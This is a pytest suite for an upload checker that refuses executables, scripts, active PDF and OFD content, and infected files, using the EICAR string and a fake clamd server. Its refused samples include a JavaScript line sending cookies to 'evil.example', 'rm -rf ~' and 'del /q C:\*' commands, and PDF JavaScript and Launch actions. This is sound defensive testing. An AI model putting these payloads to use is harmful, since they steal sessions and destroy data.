"""Upload checks: real small files built here, refused look-alikes, and the virus scanners (demo with the
EICAR test string, clamd against a fake clamd speaking the INSTREAM protocol on a real socket)."""

from __future__ import annotations

import contextlib
import hashlib
import io
import socket
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

from django.core.exceptions import ImproperlyConfigured
from django.test import override_settings

import pytest

from tongban.cases.scanners.base import ScanError, VirusScanner
from tongban.cases.scanners.clamd import ClamdScanner, parse_reply
from tongban.cases.scanners.demo import EICAR
from tongban.cases.scanners.registry import active_scanner, scanner_registry
from tongban.cases.uploads import NAME_MAX, UploadScanFailed, check_upload, clean_name
from tongban.utils.errors import DomainError
from tongban.utils.registry import AdapterRegistry


# --- real small files -------------------------------------------------------------------------------
def make_pdf(
    catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (), *, comment: bytes = b""
) -> bytes:
    """A one-page PDF with a correct cross-reference table; ``extra_objects`` are numbered from 6."""
    content = b"BT /JS0 12 Tf 72 720 Td (Hello) Tj ET"  # /JS0 is a font name, not /JS
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /JS0 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra_objects,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + (b"%" + comment + b"\n" if comment else b"")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def object_stream(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    """Object 6: an object stream holding object 7 (``content``), compressed as ``filters`` says."""
    body = b"7 0 " + content
    data = zlib.compress(body) if filters == b"/FlateDecode" else body.hex().encode() + b">"
    header = b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>" % (filters, len(data))
    return header + b"\nstream\n" + data + b"\nendstream"


def make_png(text: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)  # 1×1, 8-bit greyscale
    body = chunk(b"IHDR", header)
    if text:
        body += chunk(b"tEXt", b"Comment\0" + text)
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IDAT", zlib.compress(b"\x00\xff")) + chunk(b"IEND", b"")


def make_jpeg() -> bytes:
    """An 8×8 mid-grey baseline JPEG: one block whose coefficients are all zero, coded with two one-symbol
    Huffman tables (DC category 0 = "0", AC end-of-block = "0")."""

    def segment(marker: int, payload: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload

    table = bytes([1] + [0] * 15) + b"\x00"
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + segment(0xDB, b"\x00" + bytes([1] * 64))
        + segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
        + segment(0xC4, b"\x00" + table)
        + segment(0xC4, b"\x10" + table)
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"  # bits 00, padded with ones
        + b"\xff\xd9"
    )


def make_ofd(extra: dict[str, bytes] | None = None, *, root: str = "OFD.xml") -> bytes:
    members = {
        root: b'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"'
        b' Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot>'
        b"</ofd:DocBody></ofd:OFD>",
        "Doc_0/Document.xml": b'<?xml version="1.0" encoding="UTF-8"?><ofd:Document/>',
        **(extra or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


FAKE_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode."
)


def refused(name: str, data: bytes, declared: str = "") -> DomainError:
    with pytest.raises(DomainError) as exc:
        check_upload(name, data, declared)
    assert exc.value.field == "file"
    return exc.value


# --- accepted files ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "data", "mime", "extension"),
    [
        ("营业执照.pdf", make_pdf(), "application/pdf", "pdf"),
        ("photo.PNG", make_png(), "image/png", "png"),
        ("身份证正面.jpg", make_jpeg(), "image/jpeg", "jpg"),
        ("scan.jpeg", make_jpeg(), "image/jpeg", "jpeg"),
        ("电子证照.ofd", make_ofd(), "application/ofd", "ofd"),
    ],
)
def test_allowed_files_are_described(name: str, data: bytes, mime: str, extension: str) -> None:
    checked = check_upload(name, data)
    assert checked.name == name
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert (checked.mime, checked.extension) == (mime, extension)


def test_declared_types_that_agree_or_say_nothing_are_accepted() -> None:
    pdf = make_pdf()
    for declared in ("application/pdf", "application/PDF; charset=binary", "application/octet-stream", ""):
        assert check_upload("a.pdf", pdf, declared).mime == "application/pdf"
    assert check_upload("a.ofd", make_ofd(), "application/zip").mime == "application/ofd"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("C:\\Users\\张三\\Desktop\\营业执照.pdf", "营业执照.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..pdf", "pdf"),
        ("  my   scan .pdf  ", "my scan .pdf"),
        ("report\u202efdp.exe.pdf", "reportfdp.exe.pdf"),  # the right-to-left override is dropped
        ('a<b>:c"d|e?f*.pdf', "a_b__c_d_e_f_.pdf"),
        ("line\nbreak\x00.pdf", "linebreak.pdf"),
        ("", "upload"),
        ("/", "upload"),
    ],
)
def test_names_are_cleaned(raw: str, clean: str) -> None:
    assert clean_name(raw) == clean


def test_long_names_are_cut_keeping_the_extension() -> None:
    checked = check_upload("申" * 300 + ".pdf", make_pdf())
    assert len(checked.name) == NAME_MAX
    assert checked.name.endswith("申.pdf") and checked.extension == "pdf"


# --- size -------------------------------------------------------------------------------------------
def test_empty_file() -> None:
    assert refused("a.pdf", b"").code == "upload_empty"


@override_settings(TONGBAN_CASE_UPLOAD_MAX_BYTES=1000)
def test_oversize_file() -> None:
    pdf = make_pdf()
    big = pdf + b"%" + b"x" * (1000 - len(pdf) - 2) + b"\n"
    assert len(big) == 1000
    assert check_upload("a.pdf", big).size == 1000  # exactly the limit is fine
    error = refused("a.pdf", big + b"\n")
    assert error.code == "upload_too_large"
    assert error.params == {"max_bytes": 1000, "size": 1001}


# --- executables and active content -----------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("invoice.pdf", FAKE_EXE),
        ("photo.jpg", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56),
        ("photo.png", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24),
        ("scan.pdf", b"#!/bin/sh\nrm -rf ~\n"),
    ],
)
def test_executables_are_refused_whatever_the_name(name: str, data: bytes) -> None:
    assert refused(name, data).code == "upload_executable"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("page.pdf", b"<!DOCTYPE html><html><body>hi</body></html>"),
        (
            "logo.png",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
        ),
        ("photo.jpg", "<html>".encode("utf-16")),
        ("photo.jpg", b"\xff\xd8\xff\xe0<script>alert(1)</script>"),  # a JPEG/HTML polyglot
        ("a.pdf", b"var x = 1;\ndocument.location = 'https://evil.example/' + document.cookie;\n"),
        ("a.pdf", b'Set shell = CreateObject("WScript.Shell")\n'),
        ("a.png", b"@echo off\r\ndel /q C:\\*\r\n"),
    ],
)
def test_markup_and_scripts_are_refused(name: str, data: bytes) -> None:
    assert refused(name, data).code == "upload_active_content"


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert('hi')) >>",
        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert('hi')) >>",  # #xx escapes
        b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
    ],
)
def test_pdfs_with_scripts_actions_or_attachments_are_refused(catalog: bytes) -> None:
    error = refused("report.pdf", make_pdf(catalog))
    assert (error.code, error.params["reason"]) == ("upload_active_content", "active_names")


def test_a_script_hidden_in_a_compressed_object_stream_is_found() -> None:
    hidden = object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    assert b"JavaScript" not in hidden
    error = refused("report.pdf", make_pdf(b"/OpenAction 7 0 R", (hidden,)))
    assert (error.code, error.params["reason"]) == ("upload_active_content", "active_names")
    harmless = object_stream(b"<< /Type /Annot /Subtype /Text /Contents (ok) >>")
    assert check_upload("report.pdf", make_pdf(b"", (harmless,))).mime == "application/pdf"


def test_an_object_stream_we_cannot_decode_is_refused() -> None:
    odd = object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>", b"/ASCIIHexDecode")
    error = refused("report.pdf", make_pdf(b"", (odd,)))
    assert (error.code, error.params["reason"]) == ("upload_active_content", "uninspectable_object_stream")
    garbled = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9 >>\nstream\nnot zlib!\nendstream"
    )
    assert refused("report.pdf", make_pdf(b"", (garbled,))).code == "upload_active_content"


@pytest.mark.parametrize(
    ("extra", "code"),
    [
        ({"Doc_0/Attachs/run.exe": b"whatever"}, "upload_active_content"),
        ({"Doc_0/Res/page.html": b"<p>hi</p>"}, "upload_active_content"),
        ({"Doc_0/Res/image.png": FAKE_EXE}, "upload_executable"),
        ({"Doc_0/Res/image.png": b"<svg onload=alert(1)>"}, "upload_active_content"),
    ],
)
def test_ofd_files_with_programs_or_scripts_inside_are_refused(extra: dict[str, bytes], code: str) -> None:
    assert refused("证照.ofd", make_ofd(extra)).code == code


# --- types ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("scan.tif", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 32),  # TIFF: deliberately not allowed
        ("scan.pdf", b"MM\x00*\x00\x00\x00\x08" + b"\x00" * 32),
        ("a.ofd", make_ofd(root="Doc_0/OFD.xml")),  # a zip, but OFD.xml is not at the root
        ("a.docx", make_ofd(root="[Content_Types].xml")),
        ("a.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
        ("a.pdf", b"Just some plain text, not a document format."),
        ("a.ofd", b"PK\x03\x04 broken zip"),
    ],
)
def test_other_types_are_not_allowed(name: str, data: bytes) -> None:
    assert refused(name, data).code == "upload_type_not_allowed"


@pytest.mark.parametrize(
    ("name", "data", "declared"),
    [
        ("photo.pdf", make_png(), ""),
        ("invoice.png", make_pdf(), ""),
        ("invoice", make_pdf(), ""),
        ("licence.zip", make_ofd(), ""),
        ("invoice.pdf", make_pdf(), "image/png"),
        ("photo.jpg", make_jpeg(), "text/html"),
    ],
)
def test_name_or_declared_type_must_match_the_content(name: str, data: bytes, declared: str) -> None:
    error = refused(name, data, declared)
    assert error.code == "upload_type_mismatch"
    assert error.params["detected"] in {"image/png", "application/pdf", "application/ofd", "image/jpeg"}


# --- scanners ---------------------------------------------------------------------------------------
def test_the_demo_scanner_refuses_the_eicar_test_file() -> None:
    error = refused("report.pdf", make_pdf(comment=EICAR))
    assert error.code == "upload_infected"
    assert error.params["signature"] == "Eicar-Test-Signature"
    error = refused("photo.png", make_png(EICAR))
    assert error.code == "upload_infected"
    assert check_upload("photo.png", make_png(b"no virus here")).mime == "image/png"


def test_registry_lists_the_built_in_scanners_and_follows_the_setting(settings: Any) -> None:
    assert scanner_registry.identifiers() == ["clamd", "demo"]
    assert active_scanner().identifier == "demo"
    settings.TONGBAN_VIRUS_SCANNER = "clamd"
    assert isinstance(active_scanner(), ClamdScanner)
    settings.TONGBAN_VIRUS_SCANNER = "nope"
    with pytest.raises(ImproperlyConfigured):
        active_scanner()
    registry: AdapterRegistry[VirusScanner] = AdapterRegistry("virus scanner")
    registry.register("x")(ClamdScanner)
    with pytest.raises(ImproperlyConfigured):
        registry.register("x")(ClamdScanner)


class FakeClamd:
    """A clamd stand-in on a real TCP socket: one INSTREAM per connection, answered with ``reply(data)``."""

    def __init__(self, reply: Callable[[bytes], bytes | None]) -> None:
        self.reply = reply
        self.commands: list[bytes] = []
        self.streams: list[bytes] = []
        self.chunks: list[int] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.05)  # closing a socket does not wake a blocked accept(): poll instead
        self.address = f"127.0.0.1:{self.server.getsockname()[1]}"
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopping.is_set():
            try:
                conn, _peer = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(5)
                with contextlib.suppress(OSError):  # the client hung up early: nothing to answer
                    self._handle(conn)

    def _read(self, conn: socket.socket, size: int) -> bytes:
        data = b""
        while len(data) < size:
            part = conn.recv(size - len(data))
            if not part:
                raise ConnectionError("client went away")
            data += part
        return data

    def _handle(self, conn: socket.socket) -> None:
        self.commands.append(self._read(conn, len(b"zINSTREAM\0")))
        stream = b""
        while size := struct.unpack(">I", self._read(conn, 4))[0]:
            self.chunks.append(size)
            stream += self._read(conn, size)
        self.streams.append(stream)
        answer = self.reply(stream)
        if answer is None:  # say nothing until the client gives up
            conn.recv(1)
            return
        conn.sendall(answer)

    def close(self) -> None:
        self.stopping.set()
        self.thread.join(timeout=5)
        self.server.close()


def clamd_answers(stream: bytes) -> bytes:
    return b"stream: Eicar-Test-Signature FOUND\0" if EICAR in stream else b"stream: OK\0"


@pytest.fixture
def clamd(settings: Any) -> Iterator[FakeClamd]:
    fake = FakeClamd(clamd_answers)
    settings.TONGBAN_VIRUS_SCANNER = "clamd"
    settings.TONGBAN_CLAMD_ADDRESS = fake.address
    yield fake
    fake.close()


def test_clamd_receives_the_file_in_size_prefixed_chunks(clamd: FakeClamd) -> None:
    pdf = make_pdf()
    assert check_upload("a.pdf", pdf).sha256 == hashlib.sha256(pdf).hexdigest()
    assert clamd.commands == [b"zINSTREAM\0"]
    assert clamd.streams == [pdf]
    clamd.chunks.clear()
    assert ClamdScanner(chunk_bytes=100).scan(pdf).clean
    assert clamd.streams[-1] == pdf
    assert clamd.chunks == [100] * (len(pdf) // 100) + [len(pdf) % 100]


def test_clamd_found_means_infected(clamd: FakeClamd) -> None:
    error = refused("report.pdf", make_pdf(comment=EICAR))
    assert error.code == "upload_infected"
    assert error.params["signature"] == "Eicar-Test-Signature"


@pytest.mark.parametrize(
    "answer", [b"INSTREAM size limit exceeded. ERROR\0", b"stream: Can't allocate memory ERROR\0", b""]
)
def test_clamd_errors_fail_closed(settings: Any, answer: bytes) -> None:
    fake = FakeClamd(lambda _stream: answer)
    settings.TONGBAN_VIRUS_SCANNER = "clamd"
    settings.TONGBAN_CLAMD_ADDRESS = fake.address
    try:
        error = refused("a.pdf", make_pdf())
    finally:
        fake.close()
    assert error.code == "upload_scan_failed"
    assert isinstance(error, UploadScanFailed) and error.status == 503


def test_clamd_unreachable_fails_closed(settings: Any) -> None:
    with socket.create_server(("127.0.0.1", 0)) as placeholder:
        port = placeholder.getsockname()[1]
    settings.TONGBAN_VIRUS_SCANNER = "clamd"
    settings.TONGBAN_CLAMD_ADDRESS = f"127.0.0.1:{port}"  # nothing listens there any more
    assert refused("a.pdf", make_pdf()).code == "upload_scan_failed"
    settings.TONGBAN_CLAMD_ADDRESS = "no-port-here"
    assert refused("a.pdf", make_pdf()).code == "upload_scan_failed"


def test_clamd_that_never_answers_times_out(settings: Any) -> None:
    fake = FakeClamd(lambda _stream: None)
    settings.TONGBAN_CLAMD_ADDRESS = fake.address
    try:
        started = time.monotonic()
        with pytest.raises(ScanError):
            ClamdScanner(timeout=0.5).scan(make_pdf())
        waited = time.monotonic() - started
    finally:
        fake.close()
    assert 0.4 < waited < 3
    assert fake.streams == [make_pdf()]  # it was sent; only the answer never came


@pytest.mark.parametrize(
    ("reply", "clean", "signature"),
    [
        (b"stream: OK\0", True, ""),
        (b"stream: Win.Test.EICAR_HDB-1 FOUND\0", False, "Win.Test.EICAR_HDB-1"),
        (b"stream: OK FOUND", False, "OK"),
    ],
)
def test_clamd_replies_are_parsed(reply: bytes, clean: bool, signature: str) -> None:
    result = parse_reply(reply)
    assert (result.clean, result.signature) == (clean, signature)
